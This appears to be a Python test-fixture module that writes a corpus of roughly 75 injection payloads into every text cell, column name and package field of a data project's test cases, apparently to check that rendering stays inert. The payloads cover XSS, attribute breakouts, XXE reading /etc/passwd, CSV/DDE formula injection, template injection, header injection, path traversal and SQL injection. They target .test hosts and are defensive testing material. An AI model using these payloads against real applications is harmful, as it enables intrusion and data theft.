"""Cells written by an enemy: a corpus of injections, and cases that carry them in every column.

Each payload has a name of its own (`evilaa`, `evilab` …). One that comes alive calls `evil(name)`,
asks the host `NAME.test`, makes an element with the attribute `evil`, or makes one whose whole text
is its name; one that stays text does none of that.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from itertools import count, product
from pathlib import Path
from string import ascii_lowercase

from flows import language, schema
from flows.rows import PACKAGE_TEXTS
from flows.volumes import parse_wording
from tests.world import Folder

# `@@` is the payload's name. At most 12 words each, since a phrase has no more.
_TEXTS = (
    # scripts and what runs one
    "<script>evil('@@')</script>",
    "<script src=//@@.test/x.js></script>",
    "<img evil src=x onerror=evil('@@')>",
    "<svg evil onload=evil('@@')>",
    "<svg evil><script>evil('@@')</script></svg>",
    "<svg evil><a><animate attributeName=href values=javascript:evil('@@') /></a></svg>",
    "<foreignObject evil><body onload=evil('@@')></foreignObject>",
    "<iframe evil srcdoc=\"<script>parent.evil('@@')</script>\"></iframe>",
    "<iframe evil src=javascript:evil('@@')></iframe>",
    "<details evil open ontoggle=evil('@@')>",
    "<a evil href=\"javascript:evil('@@')\">@@</a>",
    "<a evil href=\"data:text/html,<script>evil('@@')</script>\">@@</a>",
    "javascript:evil('@@')//",
    # what fetches, leads away or restyles
    '<img evil src="https://@@.test/x.png" srcset=//@@.test/y.png>',
    "<use evil href=https://@@.test/x.svg#a />",
    "<object evil data=https://@@.test/></object><embed evil src=//@@.test/>",
    "<form evil action=https://@@.test/><input autofocus onfocus=evil('@@')></form>",
    "<base evil href=https://@@.test/>",
    '<meta evil http-equiv=refresh content="0;url=https://@@.test/">',
    "<link evil rel=stylesheet href=https://@@.test/x.css>",
    "<style evil>@import url(https://@@.test/x.css); * { color: red }</style>",
    "red;background:url(https://@@.test/x.png)",
    '<span evil style="background:url(https://@@.test/)">@@</span>',
    "see https://@@.test/x and www.@@.test and a@@@.test",
    # ways out of an attribute, an element, a comment, a string
    '" onmouseover="evil(\'@@\')" evil="',
    "' onfocus='evil(\"@@\")' autofocus tabindex=0 evil='",
    "` onmouseenter=`evil('@@')` evil=`",
    "</title><script>evil('@@')</script>",
    "</style><img evil src=x onerror=evil('@@')>",
    "</textarea></script><script>evil('@@')</script>",
    "--><script>evil('@@')</script><!--",
    "]]><script>evil('@@')</script><![CDATA[",
    '"},"@@":{"x":"\\u003cscript\\u003e", __proto__ null',
    "';evil('@@');//\\';evil('@@');//",
    "<noscript><p title=\"</noscript><img evil src=x onerror=evil('@@')>\">",
    "<math><mtext><table><mglyph><style><!--</style><i evil title=\"--&gt;&lt;i onx=evil('@@')\">",
    "<template evil><img src=x onerror=evil('@@')></template>",
    "&lt;img evil src=x onerror=evil('@@')&gt; &#60;b&#62;@@&#60;/b&#62;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; @@',
    '<?xml-stylesheet href="https://@@.test/x.css"?>',
    "<b evil>@@</b><br><i>@@</i>",
    # Markdown, and what Streamlit adds to it
    "[@@](javascript:evil('@@'))",
    "[@@](https://@@.test/) <https://@@.test/>",
    "![@@](https://@@.test/x.png)",
    "![@@][e]\n\n[e]: https://@@.test/x.png",
    "**@@** _@@_ ~~@@~~ `@@`",
    "# @@\n\n> @@\n\n| @@ | @@ |\n|---|---|\n| @@ | @@ |",
    ":red[@@] :blue-background[@@] :green-badge[@@] :small[@@]",
    ":material/skull: :skull: @@",
    "$\\href{https://@@.test/}{@@}$ $$\\includegraphics{https://@@.test/x.png}$$",
    "```mermaid\ngraph TD; A-->B; click A \"javascript:evil('@@')\"\n```",
    # Plotly, Graphviz, Typst, SankeyMATIC, BibTeX
    "%{x} %{customdata[0]} <extra>@@</extra>",
    '<a href="https://@@.test/">@@</a> <b>@@</b> <sup>@@</sup>',
    '"]; @@ [URL="https://@@.test/" label="@@"]; x [label="',
    "<<b>@@</b>>",
    '<<table><tr><td href="https://@@.test/"><img src="/etc/passwd"/></td></tr></table>>',
    "\\N \\G \\L \\E \\l \\r @@ \\",
    "*/ } subgraph @@ { /* // #",
    '#read("/etc/passwd") #link("https://@@.test/")[@@]',
    '#eval("1+1") #image("/etc/hostname") *@@* @@@ <@@> //',
    "x [5] @@ #ff0000\n@@ [99] y\n:@@ #f00",
    "}, url = {https://@@.test/}, note = {@@ \\input{/etc/passwd}",
    # templates, formats, formulas, terminals, headers, paths
    "{{7*1000003}} ${evil('@@')} <%= evil('@@') %> #{@@}",
    "{0.__class__} {@@!r} %s %(x)s %n $(id) `id`",
    '=HYPERLINK("https://@@.test/","@@")',
    "+cmd|' /C calc'!@@",
    "-2+3+@@",
    "@SUM(1)*@@",
    "\t=1+1 @@",
    "\u202e@@\u202c \u2066x\u2069 \u200f",
    "\x1b[31m@@\x1b[0m \x1b]8;;https://@@.test/\x07x",
    "@@\x01\x08\x0b\x7f\u2028\u2029\u200b\ufeff",
    "@@\r\nSet-Cookie: evil=@@\r\n\r\n<script>evil('@@')</script>",
    "../../../etc/passwd%00@@ file:///etc/passwd",
    "'; DROP TABLE flows; -- @@ nan null None",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One injection: the name that tells it from all others, and its text."""

    name: str
    text: str


_NAMES = (f"evil{a}{b}" for a, b in product(ascii_lowercase, repeat=2))
PAYLOADS = tuple(Payload(n, t.replace("@@", n)) for n, t in zip(_NAMES, _TEXTS, strict=False))
# The columns that take any words; ids, dates, numbers and words of a list take none of them.
FREE = {name: [c.name for c in t.columns if c.free] for name, t in schema.TABLES.items()}
LISTS = (("actors", "aliases"), ("flows", "data_fields"), ("glossary", "aliases"))
CODES = [code for code in language.codes() if code != language.ENGLISH]
URL = "https://source-{}.test/?a='x'&b=javascript:alert(1)#)](x"
# Bytes of a folder's name, with room for what a file's name adds to it.
LONGEST_NAME = 150


def groups(size: int) -> list[tuple[Payload, ...]]:
    """Return the corpus in groups of at most `size`: one case each."""
    return [PAYLOADS[i : i + size] for i in range(0, len(PAYLOADS), size)]


def named(start: str, payloads: tuple[Payload, ...]) -> str:
    """Return the name of a case's folder that is made of payloads, as many as a disk takes."""
    words = " ".join([start, *(p.text for p in payloads)])
    # Either slash leads into another folder on some machine, and so does none on this one.
    safe = words.encode().replace(b"/", b"|")[:LONGEST_NAME]
    return safe.decode(errors="ignore")


def hostile(path: Path, payloads: tuple[Payload, ...]) -> Folder:
    """Write the small case of the tests with these payloads in every cell that takes words.

    Each cell begins with another one, since a drawing shows the beginning of a name alone. Columns
    that the tables do not have are named by payloads.
    """
    folder, turn = Folder(path), count()

    def cell(words: int = 10_000) -> str:
        start = next(turn) % len(payloads)
        text = ""
        for payload in payloads[start:] + payloads[:start]:
            longer = f"{text} {payload.text}" if text else payload.text
            if len(longer.split()) > words:
                break
            text = longer
        return text

    most = {("citations", "phrase"): schema.MAX_PHRASE_WORDS}
    most |= {("glossary", "text"): schema.MAX_TERM_WORDS}
    for table, columns in FREE.items():
        for row in folder.rows[table]:
            row |= {name: cell(most.get((table, name), 10_000)) for name in columns}
    for table, name in LISTS:
        for row in folder.rows[table]:
            row[name] = "; ".join(p.text.replace("; ", ";").strip() for p in payloads)
    # A term is found in the texts, so that it is explained there.
    folder.rows["glossary"] = [
        {**folder.rows["glossary"][0], "term": p.text.strip(" "), "aliases": "", "text": cell(40)}
        for p in payloads
    ]
    for number, row in enumerate(folder.rows["sources"]):
        row["url"] = URL.format(number)
    # The figure of a flow is that of its claim, word for word.
    unit, wording = _figure(payloads)
    for table in ("claims", "flows"):
        for row in folder.rows[table]:
            if row["volume_unit"]:
                row["volume_unit"] = unit
            if row["volume_bound"] == "unquantified":
                row["volume_wording"] = wording
    # The same in other languages stands in columns that a table may have; a file may have its own.
    own = [p.text.strip() for p in payloads]
    for whole in schema.TABLES.values():
        more = [*(c.name for c in whole.translations), *own]
        rows = [row | {name: cell(20) for name in more} for row in folder.rows[whole.name]]
        folder.files[whole.file] = sheet((*whole.names, *more), rows)
    for key in PACKAGE_TEXTS:
        folder.package |= {name: cell() for name in (key, *(f"{key}_{code}" for code in CODES))}
    folder.package["licenses"] = [{"name": payloads[0].text, "title": cell(), "path": "x:y"}]
    folder.write()
    return folder


def sheet(names: Sequence[str], rows: Iterable[dict[str, str]]) -> str:
    """Return a table with these columns as CSV."""
    out = io.StringIO()
    writer = csv.DictWriter(out, names, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _figure(payloads: tuple[Payload, ...]) -> tuple[str, str]:
    """Return a unit, and words for a number that is not given."""
    short = [p.text for p in payloads if len(p.text.split()) < schema.MAX_PHRASE_WORDS - 1]
    plain = [t for t in short if (parse_wording(f"lakhs {t}") or (None,))[0] is None]
    return short[0], f"lakhs {plain[-1]}" if plain else "lakhs"


def refused(path: Path, payloads: tuple[Payload, ...]) -> Folder:
    """Write a case that is refused, with payloads in the cells that the refusals quote."""
    folder, turn = Folder(path), count()
    for table in schema.TABLES.values():
        for row in folder.rows[table.name]:
            for column in table.columns:
                if not column.free:
                    row[column.name] = payloads[next(turn) % len(payloads)].text
    folder.package["as_of"] = payloads[0].text
    folder.write()
    return folder
